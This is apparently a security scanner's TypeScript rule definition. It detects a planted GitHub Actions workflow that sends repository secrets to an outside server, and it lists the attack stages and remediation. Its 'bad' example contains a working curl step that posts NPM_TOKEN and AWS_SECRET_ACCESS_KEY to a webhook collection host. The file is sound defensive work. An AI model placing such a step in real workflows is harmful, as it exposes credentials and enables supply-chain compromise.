import { yaml } from '#lib/scanner/engine/rule.ts';
import { CREDENTIAL, defineCombo } from '../combo.ts';

/** What a planted workflow looks like after somebody’s account was taken over. */
export const secretsSentToStranger = defineCombo({
  id: 'secrets-sent-to-stranger',
  title: 'A workflow sends secrets to a stranger’s server',
  severity: 'CRITICAL',
  slots: {
    sent: { any: [{ rule: 'secret-exfiltration', atLeast: 'HIGH' }] },
    planted: { optional: true, any: [{ rule: 'malicious-workflow-indicator' }, { rule: 'obfuscation' }] },
    breadth: { optional: true, any: [{ rule: 'overprovisioned-secrets' }] },
    credential: CREDENTIAL,
  },
  join: { same: 'job' },
  stages: [
    {
      title: 'An account that may push is taken over',
      description: 'Its token was phished, leaked, or stolen by a package.',
    },
    {
      slot: 'planted',
      title: 'A workflow is planted',
      description: 'A push to any branch is enough for it to run with the repository’s secrets.',
    },
    { slot: 'breadth', title: 'It takes the secrets', description: 'By name, or the whole object at once.' },
    {
      slot: 'sent',
      title: 'They are sent away',
      description: 'The request goes to a server that has no part in the job.',
    },
  ],
  impact: 'Every secret that the workflow reads is known to others; what they open has to be replaced.',
  breakChain: { text: 'Remove the step, replace the secrets, and find out who brought it.', slot: 'sent' },
  references: [
    'https://blog.gitguardian.com/ghostaction-campaign-3-325-secrets-stolen/',
    'https://www.cisa.gov/news-events/alerts/2025/09/23/widespread-supply-chain-compromise-impacting-npm-ecosystem',
  ],
  since: '0.1.0',
  examples: {
    bad: [
      {
        yaml: yaml`
          on: push
          permissions: { contents: read }
          jobs:
            send:
              runs-on: ubuntu-latest
              steps:
                - run: curl -X POST -d "a=$A&b=$B" https://collect.webhook.site/x
                  env: { A: "\${{ secrets.NPM_TOKEN }}", B: "\${{ secrets.AWS_SECRET_ACCESS_KEY }}" }
        `,
      },
    ],
    good: [
      {
        yaml: yaml`
          on: push
          permissions: { contents: read }
          jobs:
            send:
              runs-on: ubuntu-latest
              steps:
                - run: curl -X POST -d "done" https://collect.webhook.site/x
        `,
      },
    ],
  },
});
